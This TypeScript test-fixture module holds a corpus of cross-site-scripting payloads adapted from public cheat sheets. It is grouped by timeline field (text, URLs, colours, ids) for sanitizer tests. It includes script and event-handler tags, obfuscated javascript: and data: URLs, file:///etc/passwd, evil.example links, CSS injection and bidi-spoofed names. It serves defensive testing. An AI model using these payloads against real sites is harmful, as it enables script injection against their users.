/**
 * Payloads from the public cheat sheets (OWASP "XSS Filter Evasion Cheat Sheet", PortSwigger
 * "Cross-site scripting cheat sheet"), adapted to the fields of a timeline. The unit tests feed
 * them through the parser; the browser tests render them and check that nothing runs. No Node
 * imports here: the browser imports this module as it is.
 */

/** HTML and script in text: titles, summaries, descriptions, quotes, labels. */
export const TEXT_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '"><script>alert(document.domain)</script>',
  "'';!--\"<XSS>=&{()}",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<embed src="javascript:alert(1)">',
  "<body onload=alert('XSS')>",
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<form><button formaction=javascript:alert(1)>X</button>',
  '<a href="javascript:alert(1)">click</a>',
  '<x onclick=alert(1)>click',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  "<style>@import'http://xss.rocks/xss.css';</style>",
  '<div style="background-image:url(javascript:alert(1))">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<IMG SRC=java\0script:alert("XSS")>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a template injection
  '${alert(1)}',
  'Invoice \u202Efdp.exe',
  '\u2066admin\u2069 \u2067مدير\u2069',
  'zero\u200Bwidth\u200Djoiner\uFEFF',
];

/** Links: sources[].url. Most must be refused; the harmless ones are listed in KEPT_URLS. */
export const URL_PAYLOADS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '  JaVaScRiPt:alert(1)',
  'javascript:alert(1)//https://example.com/',
  'javascript://example.com/%0aalert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'jav&#x09;ascript:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  'jav&#x0D;ascript:alert(1)',
  'jav\tascript:alert(1)',
  'jav\nascript:alert(1)',
  'java\0script:alert(1)',
  '\u0001javascript:alert(1)',
  ' &#14;  javascript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29',
  'java%0ascript:alert(1)',
  '\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:alert(1)',
  '\u202Ejavascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DaTa:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox("XSS")',
  'VBScript:Execute("MsgBox(1)")',
  'livescript:alert(1)',
  'file:///etc/passwd',
  'blob:https://example.com/0b2a1c3d',
  'view-source:https://example.com/',
  'https:javascript:alert(1)',
  '\\\\evil.example\\share',
  '/\\evil.example/',
  '"><img src=x onerror=alert(1)>',
  '//evil.example/x',
  '/notes/a.html#x',
  './javascript:alert(1)',
  '?q=javascript:alert(1)',
  'https://example.com/"><script>alert(1)</script>',
  'https://example.com/?q=<svg onload=alert(1)>',
  'http://example.com/#javascript:alert(1)',
  'HTTPS://EXAMPLE.com/\u202Eexe.txt',
  'mailto:desk@example.com?body=<script>alert(1)</script>',
];

/**
 * The URL payloads that are harmless links, and what safeUrl gives for each: http(s) and mailto
 * links come back normalized by the WHATWG parser (what a browser would follow); relative links,
 * which a browser resolves against the page, come back as they are.
 */
export const KEPT_URLS: Readonly<Record<string, string>> = {
  '"><img src=x onerror=alert(1)>': '"><img src=x onerror=alert(1)>',
  '//evil.example/x': '//evil.example/x',
  '/notes/a.html#x': '/notes/a.html#x',
  './javascript:alert(1)': './javascript:alert(1)',
  'https://example.com/"><script>alert(1)</script>':
    'https://example.com/%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
  'https://example.com/?q=<svg onload=alert(1)>':
    'https://example.com/?q=%3Csvg%20onload=alert(1)%3E',
  'http://example.com/#javascript:alert(1)': 'http://example.com/#javascript:alert(1)',
  'HTTPS://EXAMPLE.com/\u202Eexe.txt': 'https://example.com/%E2%80%AEexe.txt',
  'mailto:desk@example.com?body=<script>alert(1)</script>':
    'mailto:desk@example.com?body=%3Cscript%3Ealert(1)%3C/script%3E',
};

/** Category colours, which reach a style attribute as a custom property. */
export const COLOR_PAYLOADS: readonly string[] = [
  'red;background:url(javascript:alert(1))',
  'red;background-image:url("https://evil.example/x.png")',
  'url(javascript:alert(1))',
  'url(https://evil.example/track.png)',
  'expression(alert(1))',
  'ex\\pression(alert(1))',
  'e\\78 pression(alert(1))',
  'var(--x)',
  'var(--timeline-background)',
  'attr(data-x)',
  'red}body{background:url(x)',
  'red</style><script>alert(1)</script>',
  '#fff;behavior:url(xss.htc)',
  '-moz-binding:url(http://xss.rocks/xssmoz.xml#xss)',
  'rgb(0,0,0);background-image:url(x)',
  'rgb(calc(1),2,3)',
  'rgb(1,2,3) !important',
  'red/**/;color:blue',
  '\\72 ed',
  'r\\ed',
  'red\0',
  '#fff\n;x:y',
  'image-set("x.png" 1x)',
  'color-mix(in srgb, red, url(x))',
  'light-dark(red, blue)',
  '@import url(x)',
  '"><img src=x onerror=alert(1)>',
];

/** Ids, which end up in URLs (deep links) and may reach selectors. */
export const ID_PAYLOADS: readonly string[] = [
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '../../',
  '../../admin?x=1',
  '#x',
  '#detail',
  'a b',
  'x"]{}*{color:red}[id="',
  'javascript:alert(1)',
  '%3Cscript%3E',
  '__proto__',
  'constructor',
  '\u202Egnp.exe',
];

/** Everything, grouped as the tests and the browser checks use it. */
export const XSS_CORPUS = {
  text: TEXT_PAYLOADS,
  urls: URL_PAYLOADS,
  colors: COLOR_PAYLOADS,
  ids: ID_PAYLOADS,
} as const;

/** Every payload of every group, once. */
export const ALL_PAYLOADS: readonly string[] = [
  ...new Set([...TEXT_PAYLOADS, ...URL_PAYLOADS, ...COLOR_PAYLOADS, ...ID_PAYLOADS]),
];
